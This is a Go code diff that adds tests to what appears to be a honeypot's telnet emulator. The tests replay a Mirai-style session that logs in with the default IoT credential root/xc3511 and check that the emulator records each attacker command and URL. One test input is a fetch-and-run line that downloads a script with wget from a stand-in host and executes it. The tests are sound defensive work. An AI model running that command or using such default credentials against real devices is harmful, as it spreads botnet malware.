@@ -8,6 +8,7 @@ import (
 
 	"github.com/masscanned-go/masscanned/internal/app"
 	"github.com/masscanned-go/masscanned/internal/app/apptest"
+	"github.com/masscanned-go/masscanned/internal/event"
 )
 
 const (
@@ -356,4 +357,73 @@ func FuzzServe(f *testing.F) {
 			}
 		}
 	})
+}
+
+// TestMiraiShell: with AcceptAfter 1 the first password logs in, and a
+// Mirai-style session's commands are each recorded, with the URL.
+func TestMiraiShell(t *testing.T) {
+	s := &session{t: t, h: &Handler{AcceptAfter: 1}, c: conn(busybox)}
+	s.h.Greet(s.c)
+	s.send("\xff\xfc\x01\xff\xfd\x01\xff\xfd\x03")
+	s.send("root\r\n")
+	out, f := s.send("xc3511\r\n")
+	if !strings.Contains(out, "built-in shell (ash)") || !strings.HasSuffix(out, "# ") {
+		t.Errorf("login: %q", out)
+	}
+	want := event.Auth{Protocol: "telnet", User: "root", Password: "xc3511", Success: true}
+	if f["auth"] != want {
+		t.Errorf("auth %v, want %v", f["auth"], want)
+	}
+	for _, tc := range []struct{ in, out string }{
+		{"enable\r\n", "enable\r\n-sh: enable: not found\r\n# "},
+		{"system\r\n", "system\r\n-sh: system: not found\r\n# "},
+		{"shell\r\n", "shell\r\n-sh: shell: not found\r\n# "},
+		{"sh\r\n", "sh\r\n# "},
+		{"/bin/busybox ECCHI\r\n", "/bin/busybox ECCHI\r\nECCHI: applet not found\r\n# "},
+		{"cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh\r\n",
+			"cd /tmp; wget http://203.0.113.5/x.sh; sh x.sh\r\nConnecting to 203.0.113.5\r\nwget: can't connect to remote host: Connection timed out\r\n# "},
+	} {
+		out, f := s.send(tc.in)
+		if out != tc.out {
+			t.Errorf("%q: %q, want %q", tc.in, out, tc.out)
+		}
+		if f["command"] != strings.TrimSuffix(tc.in, "\r\n") {
+			t.Errorf("%q: command %v", tc.in, f["command"])
+		}
+		if strings.Contains(tc.in, "wget") {
+			if u, _ := f["urls"].([]string); len(u) != 1 || u[0] != "http://203.0.113.5/x.sh" {
+				t.Errorf("urls %v", f["urls"])
+			}
+		}
+	}
+	// two lines in one segment: two records
+	s.buf = append(s.buf, "id\r\nexit\r\n"...)
+	res := s.h.Serve(s.c, s.buf)
+	if res.Consumed != 3 || len(res.Fields) != 1 || res.Fields[0].Value != "id" {
+		t.Fatalf("first of two lines: %+v", res) // its LF comes with the next call
+	}
+	s.buf = s.buf[3:]
+	out, _ = s.send("")
+	if !strings.HasSuffix(out, "logout\r\n") || !s.closed {
+		t.Errorf("exit: %q closed %v", out, s.closed)
+	}
+}
+
+// TestLinuxShell: a Linux login shows the uname line and a bash prompt.
+func TestLinuxShell(t *testing.T) {
+	s := &session{t: t, h: &Handler{AcceptAfter: 2}, c: conn(map[string]string{"hostname": "web1", "uname": "Linux web1 6.1.0-18-amd64 #1 SMP x86_64 GNU/Linux"})}
+	s.h.Greet(s.c)
+	s.send("\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27")
+	s.send("root\r\n")
+	if out, f := s.send("a\r\n"); !strings.Contains(out, incorrect) || f["auth"].(event.Auth).Success {
+		t.Fatalf("first attempt: %q %v", out, f)
+	}
+	s.send("admin\r\n")
+	out, _ := s.send("b\r\n")
+	if !strings.Contains(out, "Linux web1 6.1.0-18-amd64") || !strings.HasSuffix(out, "admin@web1:~$ ") {
+		t.Errorf("login: %q", out)
+	}
+	if out, _ := s.send("uname -m\r\n"); out != "x86_64\r\nadmin@web1:~$ " {
+		t.Errorf("uname -m: %q", out)
+	}
 }
